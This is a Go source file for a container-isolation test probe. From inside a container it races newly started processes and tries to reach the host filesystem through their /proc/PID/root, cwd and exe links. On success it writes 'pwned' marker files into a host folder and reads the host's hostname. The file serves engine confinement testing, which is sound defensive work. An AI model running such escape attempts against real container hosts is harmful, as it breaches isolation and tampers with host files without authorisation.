// Command procprobe is the confinement test image's attacker. Run as a
// container's command (`procprobe HOSTDIR`), it polls /proc for processes
// other than itself and tries to leave the container through each one's
// /proc/PID/root and /proc/PID/cwd: to see and write into HOSTDIR, a folder
// that exists only on the host, and to read an /etc/hostname that is not
// the container's; and to open an executable from outside the container
// through /proc/PID/exe. It prints one "ESCAPE ..." line per success,
// "ready" once it polls, and on SIGTERM the number of processes it looked
// at.
package main

import (
	"bytes"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"syscall"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: procprobe HOSTDIR")
		os.Exit(2)
	}
	hostDir := os.Args[1]
	own, err := os.ReadFile("/etc/hostname")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	var root syscall.Stat_t
	if err := syscall.Stat("/", &root); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	p := &probe{hostDir: hostDir, own: own, rootDev: root.Dev, self: os.Getpid(), seen: map[int]bool{}}
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	fmt.Println("ready")
	for {
		select {
		case <-stop:
			fmt.Printf("looked at %d processes\n", len(p.seen))
			return
		default:
		}
		p.scan()
		// Pids come in order: hammer the next few, to catch a process in
		// its first microseconds.
		for i := 0; i < 200; i++ {
			for next := p.max + 1; next <= p.max+3; next++ {
				p.try(next)
			}
		}
	}
}

type probe struct {
	hostDir string
	own     []byte
	rootDev uint64
	self    int
	max     int
	seen    map[int]bool
}

// scan tries every process /proc lists.
func (p *probe) scan() {
	proc, err := os.Open("/proc")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	names, _ := proc.Readdirnames(-1)
	proc.Close()
	for _, name := range names {
		pid, err := strconv.Atoi(name)
		if err != nil {
			continue
		}
		p.max = max(p.max, pid)
		p.try(pid)
	}
}

// try attempts every escape through one process's /proc files.
func (p *probe) try(pid int) {
	if pid == p.self || pid == 1 {
		return
	}
	dir := "/proc/" + strconv.Itoa(pid)
	var st syscall.Stat_t
	if syscall.Stat(dir, &st) != nil {
		return
	}
	p.seen[pid] = true
	for _, link := range []string{"root", "cwd"} {
		p.tryDir(dir+"/"+link, pid)
	}
	// The executable of a process inside lives in the container's root;
	// one on another file system is the engine's.
	if f, err := os.Open(dir + "/exe"); err == nil {
		if err := syscall.Fstat(int(f.Fd()), &st); err == nil && st.Dev != p.rootDev && st.Nlink > 0 {
			target, _ := os.Readlink(dir + "/exe")
			fmt.Printf("ESCAPE %s/exe: opened a host executable %s\n", dir, target)
		}
		f.Close()
	}
}

func (p *probe) tryDir(base string, pid int) {
	dir := base + p.hostDir
	if _, err := os.Stat(dir); err == nil {
		fmt.Printf("ESCAPE %s: saw host folder %s\n", base, p.hostDir)
	}
	if err := os.WriteFile(filepath.Join(dir, "pwned-"+strconv.Itoa(pid)), []byte("escaped\n"), 0o644); err == nil {
		fmt.Printf("ESCAPE %s: wrote into host folder %s\n", base, p.hostDir)
	}
	if b, err := os.ReadFile(base + "/etc/hostname"); err == nil && !bytes.Equal(b, p.own) {
		fmt.Printf("ESCAPE %s: read a foreign /etc/hostname %q\n", base, bytes.TrimSpace(b))
	}
}
